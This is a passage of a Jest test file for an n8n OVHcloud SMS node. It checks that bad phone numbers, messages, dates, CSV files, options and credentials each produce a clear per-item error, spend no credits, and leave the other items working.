// Bad input, one row of docs/reliability.md per test: each gets an error that says what and
// where, spends no credit, and (with continue on fail) leaves the other items working, their
// output paired with the right input. n8n's real engine, the sandbox, the OVHcloud SMS node
// (Send, Campaign) and the Address Book node's CSV import.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { ICredentialDataDecryptedObject, IDataObject, INodeExecutionData } from 'n8n-workflow';
import { OvhSmsAddressBook } from '../../../nodes/OvhSmsAddressBook/OvhSmsAddressBook.node';
import { registerNodeType, runNode, type RunResult } from '../../support/n8nEngine';
import { jsonOf, sendParameters, useNodeHarness } from '../ovhSms/helpers';
import { sandboxClient } from '../trigger/support';

registerNodeType('n8n-nodes-ovh-sms.ovhSmsAddressBook', new OvhSmsAddressBook());

const CREDITS = 100_000;
const harness = useNodeHarness({ deliveryDelayMs: 20 });

/** What each row showed the user, printed at the end for the docs table. */
const seen: string[] = [];
const note = (input: string, text: string) => seen.push(`${input} → ${text.replace(/\s+/g, ' ').slice(0, 300)}`);
afterAll(() => process.stderr.write(`\n[bad input] what the user sees:\n${seen.map((line) => `  ${line}`).join('\n')}\n`));

const postJobs = () => harness.sandbox.requests.filter((r) => r.method === 'POST' && /\/jobs$/.test(r.path));
const creditsLeft = () => harness.account().creditsLeft;
const receiversSent = () =>
	harness
		.allSms()
		.map((sms) => sms.receiver)
		.sort();
const apiCredentials = (overrides: IDataObject = {}) => ({
	ovhCloudApi: { endpoint: 'custom', customEndpoint: harness.sandbox.apiBaseUrl, ...harness.sandbox.credentials, ...overrides },
});

function csvItem(content: string | Buffer, fileName = 'customers.csv'): INodeExecutionData {
	const bytes = typeof content === 'string' ? Buffer.from(content, 'utf8') : content;
	return { json: {}, binary: { data: { data: bytes.toString('base64'), mimeType: 'text/csv', fileName } } };
}

/** Every item of a continue-on-fail run: one output each, in order, paired with its input. */
function expectPaired(result: RunResult, count: number) {
	expect(result.status).toBe('success');
	expect(result.output).toHaveLength(count);
	result.output.forEach((item, index) => expect(item.pairedItem).toEqual({ item: index }));
}

/** Without continue on fail, the bad input stops the run before anything is sent. */
async function expectStopsBeforeSending(run: () => Promise<RunResult>, error: RegExp) {
	harness.sandbox.reset();
	harness.sandbox.setCredits(CREDITS);
	const result = await run();
	expect(result.status).toBe('error');
	expect(result.error?.message).toMatch(error);
	expect(postJobs()).toHaveLength(0);
	expect(creditsLeft()).toBe(CREDITS);
}

// Junk that no CSV holds: the bytes of a made-up binary file, NULs and control bytes included.
const BINARY_JUNK = Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 256));

describe('Send: one bad item among good ones', () => {
	// Item 1 is the bad one; items 0 and 2 are good and must still go out.
	// Every option comes from an expression, as from a mapped field or an AI agent's $fromAI:
	// the good items give good values, the bad one a value the editor would not let through.
	const goodOptions = {
		sendAt: '',
		maxParts: 6,
		tag: 'promo',
		validityPeriod: 2880,
		class: 'phoneDisplay',
		priority: 'high',
		noStopClause: false,
		transliteration: 'none',
		dryRun: false,
		maxReceiversPerJob: 500,
		parallelJobs: 4,
	};
	const good = (n: number) => ({ phone: `+3361111110${n}`, msg: 'Your parcel arrives tomorrow', sender: 'MyCompany', ...goodOptions });
	const parameters = sendParameters({
		receivers: '={{ $json.phone }}',
		message: '={{ $json.msg }}',
		sender: { __rl: true, mode: 'name', value: '={{ $json.sender }}' },
		options: Object.fromEntries(Object.keys(goodOptions).map((name) => [name, `={{ $json.${name} }}`])),
	});
	const literal = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
	const refused = (field: string, rule: string, value: string) =>
		new RegExp(`^${literal(`"${field}" must be ${rule}, not ${value}; nothing was sent [item 1]`)}$`);
	const rows: Array<{ input: string; bad: IDataObject; parameters?: IDataObject; error: RegExp | null; sentTo?: string }> = [
		{
			input: 'Malformed number',
			bad: { phone: '+33 6 12 ab 56' },
			error: /^No valid phone number in "Phone Numbers": "\+33 6 12 ab 56" contains letters \[item 1\]$/,
		},
		{
			input: 'Malformed number (too short)',
			bad: { phone: '+33 6 12' },
			error: /"\+33 6 12" wrong length for France: 3 digits after \+33, expected 9 \[item 1\]$/,
		},
		{
			input: 'National number, no default country',
			bad: { phone: '06 12 34 56 78' },
			parameters: { defaultCountry: '' },
			error: /"06 12 34 56 78" national number without a country: write it as \+<country code>… or set a default country \[item 1\]$/,
		},
		{
			input: 'National number, default country FR',
			bad: { phone: '06 12 34 56 78' },
			parameters: { defaultCountry: 'FR' },
			error: null,
			sentTo: '+33612345678',
		},
		{
			input: '2,000-character message',
			bad: { msg: 'a'.repeat(2000) },
			error:
				/^The message needs 14 SMS parts \(2011 GSM-7 characters with the STOP mention\), more than "Maximum Parts" allows \(6\); nothing was sent \[item 1\]$/,
		},
		{
			input: 'Lone surrogate in the message',
			bad: { msg: 'Your parcel \uD83D arrives' },
			error: /^"Message" has a broken character at position 13 \(U\+D83D, half of an emoji/,
		},
		{ input: 'Empty message', bad: { msg: '' }, error: /^"Message" is empty \[item 1\]$/ },
		{ input: 'Message of spaces only', bad: { msg: '   \n ' }, error: /^"Message" is empty \[item 1\]$/ },
		{
			input: 'Unknown sender',
			bad: { sender: 'Nobody' },
			error: /^The sender "Nobody" does not exist on sms-sb00001-1\. Enabled senders: MyCompany, Alerts, .* \[item 1\]$/,
		},
		{
			input: 'Sender over 11 characters',
			bad: { sender: 'MyCompanyShop' },
			error:
				/^The sender "MyCompanyShop" does not exist on sms-sb00001-1\. A sender name has at most 11 characters; "MyCompanyShop" has 13\. Enabled senders: /,
		},
		{
			input: 'Sender not enabled (refused)',
			bad: { sender: 'Refused' },
			error: /^The sender "Refused" cannot send: .*Brand not justified.* \[item 1\]$/,
		},
		{
			input: 'Send At in the past',
			bad: { sendAt: '2020-01-01T10:00:00Z' },
			error: /^"Send At" is in the past: 2020-01-01T10:00:00\+00:00 \(more than 5 minutes before now\); nothing was sent \[item 1\]$/,
		},
		{ input: 'Send At not a date', bad: { sendAt: 'tomorrow' }, error: /^"Send At" is not a date and time: tomorrow \[item 1\]$/ },
		{
			input: 'Send At in 2206 (credits would be debited now)',
			bad: { sendAt: '2206-05-01T10:00:00Z' },
			error: /^"Send At" is more than 365 days ahead: 2206-05-01T10:00:00\+00:00; nothing was sent \[item 1\]$/,
		},
		{
			input: 'Send At in 9999 (differedPeriod above 2³¹)',
			bad: { sendAt: '9999-12-31T00:00:00Z' },
			error: /^"Send At" is more than 365 days ahead: 9999-12-31/,
		},
		{
			input: 'Maximum Parts "six" from an expression, 14-part message',
			bad: { maxParts: 'six', msg: 'a'.repeat(2000) },
			error: refused('Maximum Parts', 'a whole number from 1 to 255', '"six"'),
		},
		{ input: 'Maximum Parts 0', bad: { maxParts: 0 }, error: refused('Maximum Parts', 'a whole number from 1 to 255', '0') },
		{ input: 'Maximum Parts 2.5', bad: { maxParts: 2.5 }, error: refused('Maximum Parts', 'a whole number from 1 to 255', '2.5') },
		{ input: 'Maximum Parts "3" as text (a CSV or form field)', bad: { maxParts: '3' }, error: null, sentTo: '+33611111101' },
		{
			input: 'Tag of 42 characters',
			bad: { tag: 'spring-promotion-for-our-loyal-customers-1' },
			error:
				/^"Tag" has 42 characters, more than the 20 allowed: "spring-promotion-for-our-loyal-customers-1"; nothing was sent \[item 1\]$/,
		},
		{ input: 'Tag that is an object', bad: { tag: { a: 1 } }, error: refused('Tag', 'a text of at most 20 characters', '{"a":1}') },
		{
			input: 'Validity Period "two days"',
			bad: { validityPeriod: 'two days' },
			error: refused('Validity Period (Minutes)', 'a whole number from 1 to 2147483647', '"two days"'),
		},
		{
			input: 'Validity Period -5',
			bad: { validityPeriod: -5 },
			error: refused('Validity Period (Minutes)', 'a whole number from 1 to 2147483647', '-5'),
		},
		{ input: 'Class "loud"', bad: { class: 'loud' }, error: refused('Class', 'one of "flash", "phoneDisplay", "sim"', '"loud"') },
		{
			input: 'Priority "urgent"',
			bad: { priority: 'urgent' },
			error: refused('Priority', 'one of "high", "low", "medium", "veryLow"', '"urgent"'),
		},
		{
			input: 'Not Commercial "yes please"',
			bad: { noStopClause: 'yes please' },
			error: refused('Non-Commercial (No STOP Mention)', 'true or false', '"yes please"'),
		},
		{ input: 'Not Commercial "false" as text', bad: { noStopClause: 'false' }, error: null, sentTo: '+33611111101' },
		{
			input: 'Transliteration "strong"',
			bad: { transliteration: 'strong' },
			error: refused('Transliteration', 'one of "none", "safe", "lossy"', '"strong"'),
		},
		{ input: 'Dry Run "maybe"', bad: { dryRun: 'maybe' }, error: refused('Dry Run', 'true or false', '"maybe"') },
		{
			input: 'Maximum Receivers per Job 0',
			bad: { maxReceiversPerJob: 0 },
			error: refused('Maximum Receivers per Job', 'a whole number from 1 to 10000', '0'),
		},
		{
			input: 'Parallel Jobs "many"',
			bad: { parallelJobs: 'many' },
			error: refused('Parallel Jobs', 'a whole number from 1 to 16', '"many"'),
		},
	];

	test.each(rows)('$input', async ({ input, bad, parameters: overrides, error, sentTo }) => {
		const items = [good(0), { ...good(1), ...bad }, good(2)];
		const run = () => harness.run({ ...parameters, ...overrides }, items, { continueOnFail: true });
		const result = await run();
		expectPaired(result, 3);
		const out = jsonOf(result);
		for (const index of [0, 2]) expect(out[index]).toMatchObject({ status: 'sent', validReceivers: [items[index].phone] });
		if (error) {
			expect(out[1].error).toMatch(error);
			note(input, `${String(out[1].error)}${out[1].errorDescription ? ` — ${String(out[1].errorDescription)}` : ''}`);
			expect(out[1].ids).toBeUndefined();
			expect(receiversSent()).toEqual([items[0].phone, items[2].phone]);
			expect(creditsLeft()).toBe(CREDITS - 2);
			expect(postJobs().flatMap((request) => JSON.parse(request.body).receivers as string[])).not.toContain(items[1].phone);
			await expectStopsBeforeSending(() => harness.run({ ...parameters, ...overrides }, items), error);
		} else {
			expect(out[1]).toMatchObject({ status: 'sent', validReceivers: [sentTo] });
			note(input, `sent to ${sentTo}`);
			expect(creditsLeft()).toBe(CREDITS - 3);
		}
	});
});

describe('Send: CSV files', () => {
	// Item 0 holds the file under test, item 1 a good file: one bad file must not stop the other.
	const otherFile = csvItem('phone\n+33699999901\n', 'other.csv');
	const csvParameters = (overrides: IDataObject = {}) =>
		sendParameters({ recipientSource: 'csv', binaryPropertyName: 'data', csvHeader: 'auto', defaultCountry: 'FR', ...overrides });
	const rows: Array<{
		input: string;
		file: string | Buffer;
		parameters?: IDataObject;
		error?: RegExp;
		sent?: string[];
		invalid?: Array<{ line: number; reason: RegExp }>;
	}> = [
		{
			input: 'Numbers in the wrong column',
			file: 'phone;name\nAlice;+33611111101\nBob;+33611111102\n',
			error:
				/^CSV file "customers\.csv": No valid phone number in CSV file "customers\.csv" \(2 rows\): line 2: "Alice" contains letters; line 3: "Bob" contains letters \[item 0\]$|^No valid phone number in CSV file "customers\.csv" \(2 rows\): line 2: "Alice" contains letters; line 3: "Bob" contains letters \[item 0\]$/,
		},
		{
			input: 'Column named in "Number Column" not in the file',
			file: 'name;mobile\nAlice;+33611111101\n',
			parameters: { csvColumn: 'phone' },
			error: /^CSV file "customers\.csv": No column named "phone" in the file; its columns are: name, mobile \[item 0\]$/,
		},
		{
			input: 'CSV with a BOM',
			file: '\uFEFFphone;name\n+33611111101;Alice\n06 11 11 11 02;Bob\n',
			sent: ['+33611111101', '+33611111102'],
		},
		{ input: 'CSV with `;`', file: 'name;phone\nAlice;+33611111101\nBob;0611111102\n', sent: ['+33611111101', '+33611111102'] },
		{ input: 'CSV with `,`', file: 'name,phone\nAlice,+33611111101\nBob,0611111102\n', sent: ['+33611111101', '+33611111102'] },
		{
			input: 'Quoted fields with delimiters and line breaks inside',
			file: 'name;phone;note\n"Doe; Jane";+33611111101;"first line\nsecond line"\n"Bob ""B"" Smith";not a number;x\nCarl;+33611111103;"a;b"\n',
			sent: ['+33611111101', '+33611111103'],
			invalid: [{ line: 4, reason: /contains letters/ }],
		},
		{
			input: 'Blank lines',
			file: 'phone\n\n+33611111101\n\n\n+3361\n;\n+33611111103\n\n',
			sent: ['+33611111101', '+33611111103'],
			invalid: [{ line: 6, reason: /too short|wrong length/ }],
		},
		{
			input: 'Binary junk as the CSV file',
			file: BINARY_JUNK,
			error:
				/^CSV file "customers\.csv": This is not a text file \(\d+ control characters in its first 4,096 characters, the first at position \d+\): is it really a CSV file\? \[item 0\]$/,
		},
		{ input: 'Empty CSV file', file: '', error: /^CSV file "customers\.csv": The file has no rows \[item 0\]$/ },
		{
			input: 'Four numbers on one line (one-column header, comma-separated)',
			file: 'phone\n+33611111101\n+33611111102, +33611111103, +33611111104, +33611111105\n+33611111106\n',
			sent: ['+33611111101', '+33611111106'],
			invalid: [
				{
					line: 3,
					reason: /^holds 4 phone numbers \(3 of them beyond the header's 1 column\): put one number per row; none of them was sent$/,
				},
			],
		},
		{
			input: 'Two numbers in the number cell (a quoted list)',
			file: 'name;phone\nAnn;+33611111101\nBob;"+33611111102, 06 11 11 11 03"\n',
			sent: ['+33611111101'],
			invalid: [{ line: 3, reason: /^holds 2 phone numbers: put one number per row; none of them was sent$/ }],
		},
		{
			input: 'Numbers the reader would ignore (no header, two numbers a row)',
			file: '+33611111101;+33611111102\n+33611111103;+33611111104\n',
			parameters: { csvHeader: 'no' },
			sent: [],
			error:
				/^No valid phone number in CSV file "customers\.csv" \(2 rows\): line 1: "\+33611111101" holds 2 phone numbers \(1 of them in other columns\): put one number per row/,
		},
		{
			input: 'A 20 MB line (no line break)',
			file: `phone\n+33611111101\n${'1234567890;'.repeat(2_000_000)}\n+33611111103\n`,
			error:
				/^CSV file "customers\.csv": Line 3 is longer than 65,536 characters: is this really a CSV file of receivers\? Nothing was read from it \[item 0\]$/,
		},
	];

	test.each(rows)('$input', async ({ input, file, parameters: overrides, error, sent, invalid }) => {
		const items = [csvItem(file), otherFile];
		const result = await harness.run(csvParameters(overrides), items, { continueOnFail: true });
		expectPaired(result, 2);
		const [out, other] = jsonOf(result);
		expect(other).toMatchObject({ validReceivers: ['+33699999901'] });
		// Read without a header, the other file's "phone" line is an invalid receiver: then it is partly sent.
		expect(other.status).toBe((other.invalidReceivers as unknown[]).length > 0 ? 'partlySent' : 'sent');
		if (error) {
			expect(out.error).toMatch(error);
			note(input, String(out.error));
			expect(receiversSent()).toEqual(['+33699999901']);
			expect(creditsLeft()).toBe(CREDITS - 1);
			await expectStopsBeforeSending(() => harness.run(csvParameters(overrides), items), error);
			return;
		}
		expect(out).toMatchObject({ status: invalid?.length ? 'partlySent' : 'sent', validReceivers: sent });
		const reported = out.invalidReceivers as Array<{ line: number; reason: string }>;
		expect(reported).toHaveLength(invalid?.length ?? 0);
		invalid?.forEach((expected, k) => {
			expect(reported[k].line).toBe(expected.line);
			expect(reported[k].reason).toMatch(expected.reason);
		});
		note(input, `sent to ${sent!.length}; ${reported.map((r) => `line ${r.line}: ${r.reason}`).join('; ') || 'nothing rejected'}`);
		expect(receiversSent()).toEqual([...sent!, '+33699999901'].sort());
		expect(creditsLeft()).toBe(CREDITS - sent!.length - 1);
	});

	test('a send to more receivers than "List Receivers up To" (1,000) outputs counts and the first invalid rows, not every number', async () => {
		const lines = ['phone'];
		for (let i = 0; i < 1_500; i++) lines.push(i % 100 === 7 ? `bad ${i}` : `+3361${String(i).padStart(7, '0')}`);
		const file = lines.join('\n');
		const result = await harness.run(csvParameters(), [csvItem(file)]);
		expect(result.status).toBe('success');
		const [out] = jsonOf(result);
		expect(out).toMatchObject({
			status: 'partlySent',
			summarised: true,
			validReceiverCount: 1_485,
			idCount: 1_485,
			invalidReceiverCount: 15,
			duplicateReceiverCount: 0,
		});
		expect(out.validReceivers).toBeUndefined();
		expect(out.ids).toBeUndefined();
		expect((out.invalidReceivers as IDataObject[])[0]).toEqual({ receiver: 'bad 7', reason: 'contains letters', line: 9 });
		expect(harness.allSms()).toHaveLength(1_485);
		expect(creditsLeft()).toBe(CREDITS - 1_485);
		// Every SMS is found by the output's tags.
		const tags = new Set(out.tags as string[]);
		expect(harness.allSms().every((sms) => tags.has(sms.tag!))).toBe(true);
		note(
			'CSV of 1,500 rows (15 bad), List Receivers up To 1,000 (default)',
			`summarised: validReceiverCount 1485, idCount 1485, invalidReceiverCount 15, the first 100 invalid rows, tags`,
		);

		harness.sandbox.reset();
		harness.sandbox.setCredits(CREDITS);
		const listed = await harness.run(csvParameters({ options: { listReceiversUpTo: 2_000, dryRun: true } }), [csvItem(file)]);
		expect(jsonOf(listed)[0]).toMatchObject({ status: 'dryRun', receiverCount: 1_485 });
		expect(jsonOf(listed)[0].validReceivers).toHaveLength(1_485);
	});

	test('1 million rows: a dry run reads and prices them all; a real send the account cannot pay is refused before any job', async () => {
		const lines = ['phone'];
		for (let i = 0; i < 1_000_000; i++) lines.push(`+3361${String(i).padStart(7, '0')}`);
		lines[500_001] = 'not a number';
		const file = Buffer.from(lines.join('\n'), 'utf8');
		lines.length = 0;
		const rssBefore = process.memoryUsage().rss;

		harness.sandbox.setCredits(2_000_000);
		let started = Date.now();
		const dry = await harness.run(csvParameters({ options: { dryRun: true } }), [csvItem(file)]);
		const dryMs = Date.now() - started;
		const rssAfterDry = process.memoryUsage().rss;
		const heapAfterDry = process.memoryUsage().heapUsed;
		expect(dry.status).toBe('success');
		const [estimate] = jsonOf(dry);
		expect(estimate).toMatchObject({ status: 'dryRun', receiverCount: 999_999, estimatedCredits: 999_999, file: { rows: 1_000_000 } });
		expect(estimate.invalidReceivers).toEqual([{ receiver: 'not a number', reason: 'contains letters', line: 500_002 }]);
		expect(postJobs()).toHaveLength(0);
		expect(creditsLeft()).toBe(2_000_000);

		harness.sandbox.setCredits(CREDITS);
		started = Date.now();
		const refused = await harness.run(csvParameters(), [csvItem(file)]);
		const refusedMs = Date.now() - started;
		expect(refused.status).toBe('error');
		expect(refused.error?.message).toMatch(
			/^Not enough credits on sms-sb00001-1: this run needs at least 999999 credits for 999999 SMS, 100000 are left; nothing was sent \[item 0\]$/,
		);
		note('1 million rows (real send, 100,000 credits)', refused.error!.message);
		note('1 million rows (dry run)', `status dryRun, receiverCount 999999, estimatedCredits 999999, line 500002 reported`);
		expect(postJobs()).toHaveLength(0);
		expect(creditsLeft()).toBe(CREDITS);
		process.stderr.write(
			`[bad input] 1,000,000-row CSV (${(file.length / 1e6).toFixed(1)} MB): dry run ${dryMs} ms, refused send ${refusedMs} ms; ` +
				`RSS ${Math.round(rssBefore / 1e6)} MB before, ${Math.round(rssAfterDry / 1e6)} MB after the dry run, ` +
				`${Math.round(process.memoryUsage().rss / 1e6)} MB at the end; heap in use after the dry run ${Math.round(heapAfterDry / 1e6)} MB\n`,
		);
	}, 120_000);
});

describe('Send: credentials and endpoint (every item fails alike: they share the credential)', () => {
	let notOvh: http.Server;
	let notOvhUrl = '';
	let closedUrl = '';
	beforeAll(async () => {
		notOvh = http.createServer((_req, res) =>
			res.writeHead(200, { 'Content-Type': 'text/html' }).end('<html><body>Welcome to nginx!</body></html>'),
		);
		await new Promise<void>((resolve) => notOvh.listen(0, '127.0.0.1', resolve));
		notOvhUrl = `http://127.0.0.1:${(notOvh.address() as AddressInfo).port}/1.0`;
		// A port that was just free: nothing listens there.
		const probe = http.createServer();
		await new Promise<void>((resolve) => probe.listen(0, '127.0.0.1', resolve));
		closedUrl = `http://127.0.0.1:${(probe.address() as AddressInfo).port}/1.0`;
		await new Promise((resolve) => probe.close(resolve));
	});
	afterAll(async () => {
		await new Promise((resolve) => notOvh.close(resolve));
	});

	const oauth2 = (overrides: IDataObject = {}) => ({
		ovhCloudOAuth2Api: {
			endpoint: 'custom',
			customEndpoint: harness.sandbox.apiBaseUrl,
			customTokenUrl: `${harness.sandbox.url}/auth/oauth2/token`,
			clientId: harness.sandbox.oauth2.clientId,
			clientSecret: harness.sandbox.oauth2.clientSecret,
			...overrides,
		},
	});
	const withSpace = (field: 'applicationKey' | 'applicationSecret' | 'consumerKey') => () =>
		apiCredentials({ [field]: `${harness.sandbox.credentials[field]} ` });

	const rows: Array<{
		input: string;
		credentials: () => Record<string, ICredentialDataDecryptedObject>;
		setUp?: () => void;
		tearDown?: () => void;
		error: RegExp | null;
		description?: RegExp;
		/** The run without continue on fail takes the same path; skipped where retries make it slow. */
		skipStopRun?: boolean;
	}> = [
		{ input: 'Application key with a trailing space', credentials: withSpace('applicationKey'), error: null },
		{ input: 'Application secret with a trailing space', credentials: withSpace('applicationSecret'), error: null },
		{ input: 'Consumer key with a trailing space', credentials: withSpace('consumerKey'), error: null },
		{
			input: 'Consumer key with a leading tab and a trailing new line',
			credentials: () => apiCredentials({ consumerKey: `\t${harness.sandbox.credentials.consumerKey}\n` }),
			error: null,
		},
		{
			input: 'Wrong endpoint: nothing listens there',
			credentials: () => apiCredentials({ customEndpoint: closedUrl }),
			// The clock is asked 6 times with backoff (a restarting API is not a wrong endpoint): ~12 s a run.
			skipStopRun: true,
			error:
				/^OVHcloud API no answer on GET \/auth\/time: could not read the API clock \(connection refused: nothing listens there\); check the endpoint in the credential \(http:\/\/127\.0\.0\.1:\d+\/1\.0\) and the network$/,
		},
		{
			input: 'Wrong endpoint: a web server, not the OVHcloud API',
			credentials: () => apiCredentials({ customEndpoint: notOvhUrl }),
			error:
				/^OVHcloud API 200 on GET \/auth\/time: this is not the OVHcloud API: it answered "Welcome to nginx!" where the API gives its clock; check the endpoint in the credential \(http:\/\/127\.0\.0\.1:\d+\/1\.0\)$/,
		},
		{
			input: 'Wrong endpoint: plain http to another host',
			credentials: () => apiCredentials({ customEndpoint: 'http://api.example.com/1.0' }),
			error: /Custom endpoint "http:\/\/api\.example\.com\/1\.0" uses plain http on a non-loopback host: use https/,
		},
		{
			input: 'Expired consumer key',
			credentials: () => apiCredentials(),
			setUp: () => harness.sandbox.expireCredentials(),
			tearDown: () => harness.sandbox.expireCredentials(false),
			error:
				/^OVHcloud API 403 INVALID_CREDENTIAL on GET \/sms\/sms-sb00001-1\/senders\/MyCompany: This credential is not valid \(query id [^)]+\) \[item \d\]$|^OVHcloud API 403 INVALID_CREDENTIAL on GET \/sms\/sms-sb00001-1\/senders\/MyCompany: This credential is not valid \(query id [^)]+\)$/,
			description: /^The consumer key \(or the service account token\) is unknown, expired or revoked: create a new consumer key/,
		},
		{
			input: 'Revoked OAuth2 client secret',
			credentials: () => oauth2(),
			setUp: () => harness.sandbox.revokeOAuth2(),
			tearDown: () => harness.sandbox.revokeOAuth2(false),
			error:
				/^OVHcloud API 401 invalid_client on POST OAuth2 token endpoint: the service account was refused \(.*revoked\): check the client ID and secret, and that the secret was not revoked/,
		},
	];

	test.each(rows)(
		'$input',
		async ({ input, credentials, setUp, tearDown, error, description, skipStopRun }) => {
			const items = [{ phone: '+33611111101' }, { phone: '+33611111102' }];
			const parameters = sendParameters({ receivers: '={{ $json.phone }}' });
			const run = (continueOnFail: boolean) =>
				runNode({
					type: 'ovhSms',
					credentials: credentials(),
					parameters: { serviceName: { __rl: true, mode: 'id', value: harness.sandbox.serviceName }, ...parameters },
					items,
					continueOnFail,
				});
			setUp?.();
			try {
				const result = await run(true);
				if (!error) {
					expectPaired(result, 2);
					expect(jsonOf(result).map((json) => json.status)).toEqual(['sent', 'sent']);
					note(input, 'trimmed: sent');
					expect(creditsLeft()).toBe(CREDITS - 2);
					return;
				}
				// A client that cannot even be built (bad endpoint URL) fails the node as a whole.
				const errors = result.status === 'success' ? jsonOf(result).map((json) => String(json.error)) : [String(result.error?.message)];
				if (result.status === 'success') {
					expectPaired(result, 2);
					expect(errors).toHaveLength(2);
				}
				errors.forEach((text) => expect(text).toMatch(error));
				if (description) expect(jsonOf(result)[0].errorDescription).toMatch(description);
				note(input, `${errors[0]}${jsonOf(result)[0]?.errorDescription ? ` — ${String(jsonOf(result)[0].errorDescription)}` : ''}`);
				expect(postJobs()).toHaveLength(0);
				expect(creditsLeft()).toBe(CREDITS);
				if (skipStopRun) return;
				const stopped = await run(false);
				expect(stopped.status).toBe('error');
				expect(stopped.error?.message).toMatch(error);
				expect(postJobs()).toHaveLength(0);
				expect(creditsLeft()).toBe(CREDITS);
			} finally {
				tearDown?.();
			}
		},
		60_000,
	);
});

describe('Campaign: bad input stops one campaign before anything is created', () => {
	// Item 0 holds the bad input, item 1 a good campaign (scheduled tomorrow) that must still be created.
	const tomorrow = () => new Date(Date.now() + 86_400_000).toISOString();
	const parameters: IDataObject = {
		resource: 'campaign',
		operation: 'create',
		campaignName: 'Monday promotion',
		senderType: 'sender',
		sender: { __rl: true, mode: 'name', value: 'MyCompany' },
		recipientSource: 'csv',
		binaryPropertyName: 'data',
		csvColumn: 'number',
		message: '={{ $json.message }}',
		startMode: 'scheduled',
		startAt: '={{ $json.startAt }}',
		defaultCountry: '={{ $json.country }}',
		options: { dryRun: '={{ $json.dryRun }}', tag: '={{ $json.tag }}' },
	};
	const file = 'number;firstname\n+33611111101;Ann\n';
	const rows: Array<{ input: string; file: string | Buffer; bad?: IDataObject; error: RegExp }> = [
		{
			input: 'Campaign: binary junk as the CSV file',
			file: BINARY_JUNK,
			error: /^The CSV file is not a text file \(\d+ control characters/,
		},
		{
			input: 'Campaign: no usable number in the file',
			file: 'number;firstname\nabc;Ann\n06 12;Bob\n',
			error: /^No receiver to send to \(line 2: contains letters; line 3: wrong length for France/,
		},
		{
			input: 'Campaign: start date in the past',
			file,
			bad: { startAt: '2020-01-01T10:00:00Z' },
			error: /^The start time 2020-01-01T10:00:00\.000Z is in the past/,
		},
		{ input: 'Campaign: empty message', file, bad: { message: ' ' }, error: /^"Message" is empty: nothing was created$/ },
		{
			input: 'Campaign: start date in 2206',
			file,
			bad: { startAt: '2206-05-01T10:00:00Z' },
			error: /^The start time 2206-05-01T10:00:00\.000Z is more than 365 days ahead: check the year/,
		},
		{
			input: 'Campaign: Tag of 42 characters',
			file,
			bad: { tag: 'spring-promotion-for-our-loyal-customers-1' },
			error:
				/^"Tag" has 42 characters, more than the 20 allowed: "spring-promotion-for-our-loyal-customers-1"; nothing was created \[item 0\]$/,
		},
		{
			input: 'Campaign: Dry Run "maybe"',
			file,
			bad: { dryRun: 'maybe' },
			error: /^"Dry Run" must be true or false, not "maybe"; nothing was created \[item 0\]$/,
		},
		{
			input: 'Campaign: Default Country "France"',
			file,
			bad: { country: 'France' },
			error: /^"Default Country" must be one of "FR", "BE", .*, not "FRANCE"; nothing was created \[item 0\]$/,
		},
		{
			input: 'Campaign: unknown placeholder column',
			file,
			bad: { message: 'Hello #Firstname#' },
			error:
				/^The message uses #Firstname#, which is not a column of the CSV file "customers\.csv" \(columns: number, firstname\)\. Did you mean #firstname#/,
		},
	];

	test.each(rows)('$input', async ({ input, file: content, bad, error }) => {
		const items = [
			{ ...csvItem(content), json: { message: 'Hello #firstname#', startAt: tomorrow(), ...bad } },
			{ ...csvItem('number;firstname\n+33699999901;Zoe\n', 'other.csv'), json: { message: 'Hello #firstname#', startAt: tomorrow() } },
		];
		const result = await harness.run(parameters, items, { continueOnFail: true });
		expectPaired(result, 2);
		const [out, other] = jsonOf(result);
		expect(out.error).toMatch(error);
		note(input, String(out.error));
		expect(other.error).toBeUndefined();
		expect(other.status).toBe('INSERTED');
		expect(Object.keys(harness.account().batches)).toHaveLength(1);
		expect(creditsLeft()).toBe(CREDITS - 1);
	});
});

describe('Campaign: an empty or missing placeholder value', () => {
	// Rows 3 and 5 have an empty first name, row 4 none at all: "Hello , your order is ready." by mistake.
	const file = 'number;firstname\n+33611111101;Ann\n+33611111102;\n+33611111103\n+33611111104;  \n';
	const parameters = (extra: IDataObject = {}): IDataObject => ({
		resource: 'campaign',
		operation: 'create',
		campaignName: 'Order ready',
		senderType: 'sender',
		sender: { __rl: true, mode: 'name', value: 'MyCompany' },
		recipientSource: 'csv',
		binaryPropertyName: 'data',
		csvColumn: 'number',
		message: 'Hello #firstname#, your order is ready.',
		startMode: 'now',
		...extra,
	});
	const rejectedRows = [
		{ line: 3, value: '+33611111102', reason: 'no value for #firstname#' },
		{ line: 4, value: '+33611111103', reason: 'no value for #firstname#' },
		{ line: 5, value: '+33611111104', reason: 'no value for #firstname#' },
	];

	test('rejects those rows with their line by default; the others are sent', async () => {
		const result = await harness.run(parameters(), [csvItem(file)]);
		expect(result.status).toBe('success');
		const [out] = jsonOf(result);
		expect(out).toMatchObject({ rejectedCount: 3, rejected: rejectedRows });
		note(
			'Campaign: empty or missing placeholder value (3 rows of 4)',
			`created for 1 receiver; rejected: ${rejectedRows.map((r) => `line ${r.line}: ${r.reason}`).join('; ')}`,
		);
		expect(creditsLeft()).toBe(CREDITS - 1);
	});

	test('the dry run reports the same rows', async () => {
		const result = await harness.run(parameters({ options: { dryRun: true } }), [csvItem(file)]);
		const [out] = jsonOf(result);
		expect(out).toMatchObject({ dryRun: true, rejectedCount: 3, rejected: rejectedRows, estimate: { recipients: 1 } });
		expect(creditsLeft()).toBe(CREDITS);
	});

	test('"Fallback for Empty Values" sends them with that text instead', async () => {
		const result = await harness.run(parameters({ options: { emptyValueFallback: 'dear customer' } }), [csvItem(file)]);
		const [out] = jsonOf(result);
		expect(out).toMatchObject({
			rejectedCount: 0,
			estimate: { recipients: 4, longestMessage: 'Hello dear customer, your order is ready.' },
		});
		note(
			'Campaign: the same file, Fallback for Empty Values "dear customer"',
			'created for 4 receivers, "Hello dear customer, your order is ready."',
		);
		expect(creditsLeft()).toBe(CREDITS - 4);
	});
});

describe('Estimate: options from expressions are checked like typed ones', () => {
	const parameters: IDataObject = {
		resource: 'sms',
		operation: 'estimate',
		senderType: 'sender',
		message: 'a'.repeat(2000),
		recipientCount: '={{ $json.count }}',
		options: { maxParts: '={{ $json.maxParts }}', transliteration: '={{ $json.transliteration }}' },
	};
	const good = { count: 10, maxParts: 6, transliteration: 'none' };
	const rows: Array<{ input: string; bad: IDataObject; error: RegExp }> = [
		{
			input: 'Estimate: Maximum Parts "six"',
